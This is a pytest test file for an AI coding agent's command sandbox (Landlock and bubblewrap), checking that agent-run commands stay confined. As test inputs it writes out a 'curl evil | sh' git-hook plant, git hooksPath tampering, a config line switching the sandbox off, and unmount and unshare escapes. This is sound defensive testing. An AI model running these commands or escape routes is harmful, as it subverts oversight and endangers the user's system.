"""run_command in an operating-system sandbox: real processes under real Landlock and bubblewrap.

Each confinement test runs once per mechanism: bubblewrap, Landlock with its mount namespace (the
top level open), and Landlock without one (the top level closed, as where user namespaces are off).
A mechanism this machine lacks skips with the reason (CI's kernel has Landlock; bubblewrap needs to
be installed and able to make namespaces).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from conftest import git
from helpers import alive
from patience import patience

from specflux.agent import sandbox as sandbox_module
from specflux.agent.sandbox import SETTINGS, Sandbox, choose, write_rights
from specflux.agent.tools import Toolbox
from specflux.store.config import AgentConfig, load_config
from specflux.base.errors import AgentError, ParseError

TASK = ".specflux/task-states/task-1-state.md"
TASK_TEXT = b"# Task #1: other task\n\n## 0. Metadata\n```json\n{\"task_id\": 1}\n```\n"


class NoHooks:
    """run_command never reaches the task hooks."""

    def check_criterion(self, index: int) -> str:
        raise AssertionError("not called")

    def end_session(self, handoff) -> str:
        raise AssertionError("not called")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A git repository with a task file, a source folder and a file at the top level."""
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    (root / ".specflux" / "task-states").mkdir(parents=True)
    (root / TASK).write_bytes(TASK_TEXT)
    (root / "a.txt").write_text("alpha\n")
    (root / "src" / "m.py").write_text("x = 1\n")
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    return folder


def confined(kind: str) -> Sandbox:
    """The sandbox `kind` ("bwrap", "landlock", or "landlock-closed": Landlock told not to make a
    mount namespace); skips, with the reason, where this machine cannot run it."""
    try:
        chosen = choose(kind.removesuffix("-closed"))
    except AgentError as e:
        pytest.skip(str(e))
    if kind == "landlock-closed":
        return Sandbox("landlock", abi=chosen.abi, top_level=False)
    if not chosen.top_level:
        if mount_namespaces_work():
            pytest.fail(f"unshare(1) makes mount namespaces here, yet the Landlock launcher says: {chosen.reason}")
        pytest.skip(f"Landlock cannot open the top level here: {chosen.reason}")
    return chosen


def mount_namespaces_work() -> bool:
    """Whether this system lets this user make a mount namespace, asked of util-linux's unshare:
    the witness that a Landlock launcher without one is broken, not refused."""
    if shutil.which("unshare") is None:
        return False
    tries = (["unshare", "--mount", "true"], ["unshare", "--map-root-user", "--mount", "true"])
    return any(subprocess.run(argv, capture_output=True).returncode == 0 for argv in tries)


@pytest.fixture(params=["landlock", "landlock-closed", "bwrap"])
def sandbox(request) -> Sandbox:
    return confined(request.param)


@pytest.fixture(params=["landlock", "bwrap"])
def open_sandbox(request) -> Sandbox:
    """A sandbox in which commands may add and remove entries at the repository's top level."""
    return confined(request.param)


@pytest.fixture
def box(repo: Path, sandbox: Sandbox):
    toolbox = Toolbox(repo, NoHooks(), command_timeout_s=10, sandbox=sandbox)
    yield toolbox
    toolbox.close()


def run(box: Toolbox, command: str) -> tuple[int, str]:
    """Run `command` through the run_command tool: (exit code, the whole result)."""
    result = box.call("run_command", {"command": command})
    assert not result.is_error, result.content
    first, _, _ = result.content.partition("\n")
    return int(first.removeprefix("exit code: ")), result.content


def succeeds(box: Toolbox, command: str) -> str:
    code, out = run(box, command)
    assert code == 0, out
    return out


def fails(box: Toolbox, command: str) -> str:
    code, out = run(box, command)
    assert code != 0, out
    return out


REFUSALS = ("Read-only file system", "Permission denied", "Device or resource busy")


def refused(box: Toolbox, command: str) -> str:
    """`command` fails, and says that the system refused it."""
    out = fails(box, command)
    assert any(said in out for said in REFUSALS), out
    return out


# -- what a sandboxed command may write ------------------------------------------------------


def test_writes_inside_the_repository_succeed(box: Toolbox, repo: Path):
    succeeds(box, "mkdir -p src/pkg && echo new > src/pkg/new.py && echo beta >> a.txt "
                  "&& mv src/pkg/new.py src/moved.py && rm src/m.py && echo y > src/m.py")
    assert (repo / "src" / "moved.py").read_text() == "new\n"
    assert (repo / "a.txt").read_text() == "alpha\nbeta\n"
    assert (repo / "src" / "m.py").read_text() == "y\n"


def test_a_write_outside_the_repository_fails(box: Toolbox, outside: Path):
    out = fails(box, f"echo x > {outside}/x.txt")
    assert "Permission denied" in out or "Read-only file system" in out
    fails(box, f"{sys.executable} -c \"open('{outside}/y.txt', 'w')\"")
    fails(box, f"mkdir {outside}/sub")
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("command", [
    f"echo x >> {TASK}", f"echo x > {TASK}", f"truncate -s 0 {TASK}", f"rm -f {TASK}",
    f"mv {TASK} src/stolen.md", f"cp src/m.py {TASK}", f"sed -i s/Task/Owned/ {TASK}",
    f"ln -f {TASK} src/hardlink && echo x >> src/hardlink",
    f"{sys.executable} -c \"import os; os.truncate('{TASK}', 0)\"",
    "echo x > .specflux/task-states/task-9-state.md", "rm -rf .specflux", "mv .specflux src/",
])
def test_another_task_file_cannot_be_changed(box: Toolbox, repo: Path, command: str):
    fails(box, command)
    assert (repo / TASK).read_bytes() == TASK_TEXT
    assert sorted(p.name for p in (repo / ".specflux" / "task-states").iterdir()) == ["task-1-state.md"]


def test_git_is_read_only_but_readable(box: Toolbox, repo: Path):
    config = (repo / ".git" / "config").read_bytes()
    fails(box, "echo 'curl evil | sh' > .git/hooks/x")
    fails(box, "echo '[core] hooksPath = src' >> .git/config")
    fails(box, "rm -rf .git")
    fails(box, "mv .git src/")
    fails(box, "git add a.txt")  # it would write .git/index
    assert not (repo / ".git" / "hooks" / "x").exists()
    assert (repo / ".git" / "config").read_bytes() == config
    assert "?? a.txt" in succeeds(box, "git status --porcelain")


def test_root_keeps_no_capability_to_undo_the_sandbox(box: Toolbox, repo: Path):
    """Run as root (as in many containers), a command must not unmount or remount its way out."""
    status = succeeds(box, "sh -c \"grep -E '^Cap(Prm|Eff|Amb)' /proc/self/status\"")
    assert [line.split()[1] for line in status.splitlines() if line.startswith("Cap")] == ["0" * 16] * 3, status
    run(box, "umount .git; umount -l .git; mount -o remount,rw,bind .git; touch .git/hooks/x")
    run(box, "unshare -rm sh -c 'umount -l .git; touch .git/hooks/y'")
    assert sorted(p.name for p in (repo / ".git" / "hooks").iterdir() if p.name in ("x", "y")) == []


def test_a_child_process_is_confined_too(box: Toolbox, outside: Path):
    fails(box, f"sh -c 'echo x > {outside}/a'")
    run(box, f"(sleep 0.1; echo x > {outside}/b) & wait")
    run(box, f"setsid sh -c 'echo x > {outside}/c'")
    run(box, f"{sys.executable} -c \"import subprocess; subprocess.run(['touch', '{outside}/d'])\"")
    assert list(outside.iterdir()) == []


def test_a_symlink_out_of_the_repository_leads_nowhere_writable(box: Toolbox, repo: Path, outside: Path):
    (repo / "link").symlink_to(outside)
    (repo / "src" / "deep").symlink_to(outside)
    fails(box, "echo x > link/a")
    fails(box, "echo x > src/deep/b")
    assert list(outside.iterdir()) == []


def test_the_temp_folder_is_private_writable_and_kept_for_the_session(box: Toolbox, repo: Path):
    succeeds(box, 'echo kept > "$TMPDIR/f" && mktemp && test "$TMP" = "$TMPDIR" && test "$TEMP" = "$TMPDIR"')
    succeeds(box, f"{sys.executable} -c \"import tempfile; tempfile.NamedTemporaryFile().write(b'x')\"")
    assert "kept" in succeeds(box, 'cat "$TMPDIR/f"')
    tmp = Path(succeeds(box, 'echo "TMPDIR=$TMPDIR"').split("TMPDIR=")[1].split("\n")[0])
    assert tmp.is_dir() and not tmp.is_relative_to(repo) and tmp != Path("/tmp")
    box.close()
    assert not tmp.exists()


@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_here_documents_work_in_the_shells_agents_use(box: Toolbox, shell: str):
    """A here-document needs a temp file: bash makes it in $TMPDIR, zsh at $TMPPREFIX."""
    if not shutil.which(shell):
        pytest.skip(f"{shell} is not installed")
    assert "here" in succeeds(box, f"{shell} -c \"cat <<'EOF'\nhere\nEOF\"")


def test_devices_and_the_standard_streams_are_writable(box: Toolbox):
    out = succeeds(box, "echo a > /dev/null && echo out > /dev/stdout && echo err > /dev/stderr "
                        "&& head -c 4 /dev/zero > /dev/null")
    assert "--- stdout ---\nout\n" in out and "--- stderr ---\nerr\n" in out
    run(box, "echo x > /dev/sandbox-test-node")  # refused (Landlock) or in a private /dev (bwrap)
    assert not Path("/dev/sandbox-test-node").exists()


def test_a_timeout_still_kills_the_whole_sandboxed_group(box: Toolbox, repo: Path):
    mark = f"specflux-timeout-{os.getpid()}-{time.monotonic_ns()}"  # a PID inside bwrap is the namespace's
    result = box.call("run_command", {"command": f"sh -c 'sleep 30' {mark} & echo $! > src/child.pid; wait",
                                      "timeout_s": 1})
    assert result.is_error and "timed out" in result.content
    assert (repo / "src" / "child.pid").read_text().strip()
    deadline = time.monotonic() + patience(2)
    while subprocess.run(["pgrep", "-f", mark], capture_output=True).returncode == 0 and time.monotonic() < deadline:
        time.sleep(0.02)
    assert subprocess.run(["pgrep", "-f", mark], capture_output=True).returncode != 0


def test_the_api_key_stays_out_of_sandboxed_commands(box: Toolbox, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-sandbox-secret")
    assert "sk-ant-sandbox-secret" not in succeeds(box, "env")


# -- the repository's top level -------------------------------------------------------------


def test_commands_add_and_remove_entries_at_the_top_level(open_sandbox: Sandbox, repo: Path):
    """What ordinary coding needs: new files and folders beside .git, some removed, some moved."""
    box = Toolbox(repo, NoHooks(), command_timeout_s=10, sandbox=open_sandbox)
    try:
        succeeds(box, "touch NEWFILE && printf '[project]\\nname = \"x\"\\n' > pyproject.toml && mkdir -p pkg/sub tests "
                      "&& echo 'y = 2' > pkg/sub/mod.py && touch tests/__init__.py && rm a.txt")
        succeeds(box, "mv pyproject.toml setup.toml && mv setup.toml pyproject.toml && mv src/m.py m.py "
                      "&& mv NEWFILE src/ && mkdir gone && rmdir gone && ln -s pkg link && rm link")
        succeeds(box, "echo 'z = 3' > pkg/sub/more.py && rm -r tests")  # a folder a command made
    finally:
        box.close()
    assert (repo / "pyproject.toml").read_text() == '[project]\nname = "x"\n'
    assert (repo / "pkg" / "sub" / "more.py").is_file() and (repo / "m.py").read_text() == "x = 1\n"
    assert (repo / "src" / "NEWFILE").is_file()
    assert not any((repo / name).exists() for name in ("a.txt", "NEWFILE", "gone", "link", "tests"))
    assert str(repo) not in Path("/proc/self/mountinfo").read_text()  # the mounts stayed in the sandbox


def test_with_the_top_level_open_git_specflux_and_the_system_stay_shut(open_sandbox: Sandbox, repo: Path):
    config = (repo / ".git" / "config").read_bytes()
    marker = f"specflux-sandbox-test-{uuid.uuid4().hex}"
    in_home, in_tmp = Path.home() / f".{marker}", Path("/tmp") / marker
    box = Toolbox(repo, NoHooks(), command_timeout_s=10, sandbox=open_sandbox)
    try:
        for command in [
            "echo 'curl evil | sh' > .git/hooks/pre-commit", "touch .git/hooks/post-checkout", "mkdir .git/more",
            "echo '[core] hooksPath = src' >> .git/config", "rm .git/config", "rm -rf .git", "rmdir .git",
            "mv -T .git old-git", "mkdir -p evil/hooks && mv -T evil .git", "ln -s src .git/modules",
            "echo 'sandbox = \"off\"' > .specflux/config.toml", f"echo x >> {TASK}", f"rm {TASK}",
            f"mv {TASK} src/", "mv -T .specflux old-specflux", "rm -rf .specflux",
            f"echo x > {in_home}", f"echo x > {in_tmp}", f"mkdir {in_tmp}",
        ]:
            refused(box, command)
    finally:
        box.close()
        in_home.unlink(missing_ok=True)
        shutil.rmtree(in_tmp, ignore_errors=True)
        in_tmp.unlink(missing_ok=True)
    assert (repo / ".git" / "config").read_bytes() == config and (repo / ".git" / "HEAD").is_file()
    assert not any((repo / ".git" / name).exists() for name in ("hooks/pre-commit", "hooks/post-checkout", "more"))
    assert (repo / TASK).read_bytes() == TASK_TEXT
    assert sorted(p.name for p in (repo / ".specflux").rglob("*")) == ["task-1-state.md", "task-states"]
    assert not any(p.exists() for p in (repo / "old-git", repo / "old-specflux", in_home, in_tmp))


def test_landlock_without_a_mount_namespace_keeps_the_top_level_closed(repo: Path):
    """Landlock alone: a rule on the root would cover .git, so there is none."""
    box = Toolbox(repo, NoHooks(), command_timeout_s=10, sandbox=confined("landlock-closed"))
    try:
        refused(box, "touch new.txt")
        refused(box, "rm a.txt")
        succeeds(box, "echo more >> a.txt")
        assert not box.call("write_file", {"path": "docs/x.md", "content": "x"}).is_error
        succeeds(box, "echo y > docs/y.md")  # a top-level folder made with write_file is writable next time
    finally:
        box.close()
    assert (repo / "docs" / "y.md").is_file() and not (repo / "new.txt").exists()


def test_where_no_mount_namespace_can_be_made_landlock_says_the_top_level_is_closed(monkeypatch, repo: Path):
    confined("landlock")
    monkeypatch.setattr(sandbox_module, "_mounts_problem", lambda: "unshare(CLONE_NEWUSER): Operation not permitted")
    chosen = choose("landlock")
    assert not chosen.top_level and "--mounts" not in chosen.argv("true", repo, repo)
    assert chosen.describe() == (
        "run_command is sandboxed with Landlock: writes only inside the repository (not .git/ or .specflux/, "
        "and no new files or folders at its top level) and its temp folder; it can still read the engine's private "
        "folder (the runs' event keys: docs/engine-state.md); the top level stays closed because "
        "no mount namespace can be made here (unshare(CLONE_NEWUSER): Operation not permitted)")


def test_the_launcher_refuses_to_run_when_it_cannot_make_its_mounts(repo: Path):
    """Asked for the mount namespace, the launcher never runs the command without it."""
    confined("landlock")
    folder = os.path.dirname(sandbox_module.__file__)
    script = (f"import sys; sys.path.insert(0, {folder!r}); import mountns, sandbox\n"
              "def refuse(): raise PermissionError(1, 'unshare(CLONE_NEWUSER): Operation not permitted')\n"
              "mountns.enter = refuse\n"
              f"sys.exit(sandbox._launch(['landlock', '--repo', {str(repo)!r}, '--mounts', '--', 'touch', 'ran']))")
    done = subprocess.run([sys.executable, "-I", "-S", "-c", script], cwd=repo, capture_output=True, text=True)
    assert done.returncode == 126, done.stderr
    assert done.stderr == ("specflux sandbox: cannot confine the command with Landlock, so it did not run: "
                           "unshare(CLONE_NEWUSER): Operation not permitted\n")
    assert not (repo / "ran").exists()


NOBODY = 65534


@pytest.fixture
def shared_tmp():
    """A folder another user can reach (pytest's tmp_path is private to this one)."""
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="specflux-sandbox-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_landlock_opens_the_top_level_for_an_unprivileged_user(shared_tmp: Path):
    """Without root the launcher gets its mount namespace through a user namespace (as root the
    other tests do without one): run as an ordinary user, here `nobody` when the tests run as root."""
    confined("landlock")
    repo, tmp, lib = shared_tmp / "repo", shared_tmp / "tmp", shared_tmp / "lib"
    for folder in (repo / ".specflux", repo / "src", tmp, lib):
        folder.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    (repo / "a.txt").write_text("a\n")
    for name in ("sandbox.py", "mountns.py"):  # the launcher, where that user can read it
        shutil.copy(Path(sandbox_module.__file__).with_name(name), lib / name)
    prefix: list[str] = []
    python = sys.executable
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("setpriv (util-linux) is not installed: cannot run the launcher as an ordinary user")
        prefix = [setpriv, f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"]
        runnable = [p for p in (sys.executable, shutil.which("python3"), "/usr/bin/python3")
                    if p and subprocess.run([*prefix, p, "-c", ""], capture_output=True).returncode == 0]
        if not runnable:
            pytest.skip(f"no Python that user {NOBODY} may run")
        python = runnable[0]
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(shared_tmp)], check=True)

    def launch(command: str) -> subprocess.CompletedProcess:
        argv = [*prefix, python, "-I", "-S", str(lib / "sandbox.py"), "landlock", "--repo", str(repo),
                "--write", str(tmp), "--mounts", "--", "/bin/sh", "-c", command]
        return subprocess.run(argv, cwd=repo, capture_output=True, text=True, timeout=20)

    done = launch("touch NEW && mkdir -p pkg && echo x > pkg/m.py && rm a.txt && id -u && cat /proc/self/uid_map")
    assert done.returncode == 0, done.stderr
    uid, mapping = done.stdout.split("\n", 1)
    assert uid != "0" and mapping.split() == [uid, uid, "1"]  # in a user namespace, as itself
    for command in ("touch .git/hooks/pre-commit", "mv -T .git old", "echo x > .specflux/t.md",
                    f"touch {shared_tmp}/out"):
        done = launch(command)
        assert done.returncode != 0 and any(said in done.stderr for said in REFUSALS), (command, done.stderr)
    assert sorted(p.name for p in repo.iterdir()) == [".git", ".specflux", "NEW", "pkg", "src"]
    assert not (repo / ".git" / "hooks" / "pre-commit").exists() and not (shared_tmp / "out").exists()


def test_without_a_git_folder_no_command_can_create_one(sandbox: Sandbox, tmp_path: Path):
    """A `.git` made by a command would be picked up, hooks and all, by the next git run."""
    root = tmp_path / "plain"
    (root / ".specflux").mkdir(parents=True)
    (root / "src").mkdir()
    box = Toolbox(root, NoHooks(), command_timeout_s=10, sandbox=sandbox)
    try:
        fails(box, "git init -q .")
        refused(box, "echo 'gitdir: src' > .git")
        succeeds(box, "echo x > src/x")
    finally:
        box.close()
    assert not (root / ".git").exists()


def test_without_a_specflux_folder_no_command_can_create_one(sandbox: Sandbox, tmp_path: Path):
    """A `.specflux/config.toml` made by a command could switch the sandbox off for the next session."""
    root = tmp_path / "bare"
    (root / "src").mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    box = Toolbox(root, NoHooks(), command_timeout_s=10, sandbox=sandbox)
    try:
        refused(box, "mkdir .specflux")
        refused(box, "echo x > .specflux")
        succeeds(box, "echo x > src/x")
    finally:
        box.close()
    assert not (root / ".specflux").exists()


@pytest.mark.parametrize("kind", ["symlink", "gitdir file"])
def test_a_git_folder_elsewhere_in_the_repository_is_read_only_too(sandbox: Sandbox, tmp_path: Path, kind: str):
    """`.git` may be a symlink or a `gitdir:` file to a folder inside the repository: the top-level
    entry holding it is read-only as a whole, so it cannot be renamed away and planted anew."""
    root = tmp_path / "linked"
    (root / "store" / "gitdir" / "hooks").mkdir(parents=True)
    if kind == "symlink":
        (root / ".git").symlink_to(root / "store" / "gitdir")
    else:
        (root / ".git").write_text("gitdir: store/gitdir\n")
    (root / ".specflux").mkdir()
    (root / "src").mkdir()
    box = Toolbox(root, NoHooks(), command_timeout_s=10, sandbox=sandbox)
    try:
        refused(box, "echo x > store/gitdir/hooks/pre-commit")
        fails(box, "echo x > .git/hooks/pre-commit")
        refused(box, "mv store store2 && mkdir -p store/gitdir/hooks && echo x > store/gitdir/hooks/pre-commit")
        refused(box, "mv -T src store")
        succeeds(box, "echo x > src/ok")
        if kind == "gitdir file":
            refused(box, "echo 'gitdir: src' > .git")
    finally:
        box.close()
    assert sorted(p.name for p in root.iterdir()) == [".git", ".specflux", "src", "store"]
    assert not (root / "store" / "gitdir" / "hooks" / "pre-commit").exists()


def test_a_gitdir_through_a_symlink_keeps_the_top_level_closed(sandbox: Sandbox, tmp_path: Path):
    """`gitdir: link/gitdir` with `link` a symlink: were the root writable, a command could put a
    folder of its own in the symlink's place (a symlink cannot be mounted read-only)."""
    root, elsewhere = tmp_path / "via-link", tmp_path / "elsewhere"
    (elsewhere / "gitdir" / "hooks").mkdir(parents=True)
    (root / ".specflux").mkdir(parents=True)
    (root / "src").mkdir()
    (root / "link").symlink_to(elsewhere)
    (root / ".git").write_text("gitdir: link/gitdir\n")
    box = Toolbox(root, NoHooks(), command_timeout_s=10, sandbox=sandbox)
    try:
        refused(box, "rm link")
        refused(box, "mv link old && mkdir -p link/gitdir/hooks")
        succeeds(box, "echo x > src/ok")
    finally:
        box.close()
    assert (root / "link").is_symlink()
    assert sorted(p.name for p in root.iterdir()) == [".git", ".specflux", "link", "src"]


def test_the_writable_top_level_entries(tmp_path: Path):
    root = tmp_path / "r"
    for folder in ("src", "store/gitdir", ".SpecFlux", "Docs"):
        (root / folder).mkdir(parents=True)
    (root / ".git").write_text("gitdir: store/gitdir\n")
    (root / "a.txt").write_text("a")
    (root / "out").symlink_to(tmp_path)
    assert sandbox_module.writable_entries(str(root)) == ["Docs", "a.txt", "src"]
    assert sandbox_module.read_only_entries(str(root)) == [".git", ".specflux", "store"]
    assert not sandbox_module.root_is_writable(str(root))  # no .specflux (only .SpecFlux)
    (root / ".specflux").mkdir()
    assert sandbox_module.root_is_writable(str(root))


# -- choosing ---------------------------------------------------------------------------------


def test_off_runs_unconfined(repo: Path, outside: Path):
    off = choose("off")
    assert (off.name, off.confined, off.warning) == ("off", False, None)
    assert off.describe() == 'run_command is not sandboxed ([agent] sandbox = "off")'
    box = Toolbox(repo, NoHooks(), command_timeout_s=10, sandbox=off)
    succeeds(box, f"echo x > {outside}/free.txt && echo y > .git/hooks/free")
    assert (outside / "free.txt").is_file()
    assert box._tmp is None  # an unconfined command keeps the caller's TMPDIR


def test_auto_picks_a_confining_sandbox_where_one_works():
    chosen = choose("auto")
    if not chosen.confined:
        pytest.skip(f"no sandbox on this machine: {chosen.reason}")
    assert chosen.warning is None
    assert chosen.describe().startswith(f"run_command is sandboxed with {'bubblewrap' if chosen.name == 'bwrap' else 'Landlock'}: ")


def test_auto_says_why_when_nothing_is_available(monkeypatch):
    monkeypatch.setattr(sandbox_module, "_problem", lambda name: f"no {name} here")
    chosen = choose("auto")
    assert (chosen.name, chosen.confined) == ("none", False)
    if sys.platform == "linux":
        assert chosen.reason == "no bwrap here and no landlock here"
    assert chosen.warning == chosen.describe()
    assert chosen.reason in chosen.describe() and 'sandbox = "off"' in chosen.describe()


def test_an_explicit_choice_that_is_unavailable_is_an_error(monkeypatch, tmp_path: Path):
    if sys.platform != "darwin":
        with pytest.raises(AgentError, match=r'sandbox = "sandbox-exec", but sandbox-exec cannot be used here: .*macOS'):
            choose("sandbox-exec")
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    with pytest.raises(AgentError, match="bwrap is not installed"):
        choose("bwrap")
    with pytest.raises(AgentError, match="unknown sandbox 'chroot'"):
        choose("chroot")


def test_the_describe_lines():
    assert Sandbox("landlock", abi=7).describe() == (
        "run_command is sandboxed with Landlock: writes only inside the repository (not .git/ or "
        ".specflux/) and its temp folder")
    assert Sandbox("landlock", abi=7, top_level=False).describe() == (
        "run_command is sandboxed with Landlock: writes only inside the repository (not .git/ or "
        ".specflux/, and no new files or folders at its top level) and its temp folder; it can still read the "
        "engine's private folder (the runs' event keys: docs/engine-state.md)")
    assert Sandbox("bwrap").describe() == (
        "run_command is sandboxed with bubblewrap: writes only inside the repository (not .git/ or "
        ".specflux/) and its temp folder")


def test_landlock_handles_only_the_rights_the_kernel_knows():
    refer, truncate, ioctl = sandbox_module.REFER, sandbox_module.TRUNCATE, sandbox_module.IOCTL_DEV
    assert write_rights(1) & (refer | truncate | ioctl) == 0
    assert write_rights(2) & (refer | truncate | ioctl) == refer
    assert write_rights(4) & (refer | truncate | ioctl) == refer | truncate
    assert write_rights(7) & (refer | truncate | ioctl) == refer | truncate | ioctl
    reads = 1 | 1 << 2 | 1 << 3  # EXECUTE, READ_FILE, READ_DIR stay unrestricted
    assert write_rights(7) & reads == 0


def test_the_launcher_refuses_rather_than_run_unconfined(repo: Path):
    launcher = [sys.executable, "-I", "-S", sandbox_module.__file__]
    bad = subprocess.run([*launcher, "landlock", "--repo", str(repo), "--"], capture_output=True, text=True)
    assert bad.returncode == 2 and "usage" in bad.stderr
    bad = subprocess.run([*launcher, "landlock", "--bogus", "x", "--", "true"], capture_output=True, text=True)
    assert bad.returncode == 2
    if sandbox_module._problem("landlock") is None:
        missing = subprocess.run([*launcher, "landlock", "--repo", str(repo), "--", "no-such-program-x"],
                                 capture_output=True, text=True)
        assert missing.returncode == 127 and "no-such-program-x" in missing.stderr


# -- config -----------------------------------------------------------------------------------


def test_the_config_setting(tmp_path: Path):
    path = tmp_path / "config.toml"
    assert AgentConfig().sandbox == "auto"
    assert AgentConfig.choices["sandbox"] == SETTINGS
    path.write_text('[agent]\nsandbox = "off"\n')
    assert load_config(path).agent.sandbox == "off"
    path.write_text('[archive]\nwarn_kb = 40\n\n[agent]\nmodel = "m"\nsandbox = "chroot"\n')
    with pytest.raises(ParseError) as caught:
        load_config(path)
    assert str(caught.value) == (f"{path}:6: [agent] sandbox must be one of auto, off, landlock, bwrap, "
                                 "sandbox-exec, not 'chroot'")
    assert os.path.basename(caught.value.path) == "config.toml"
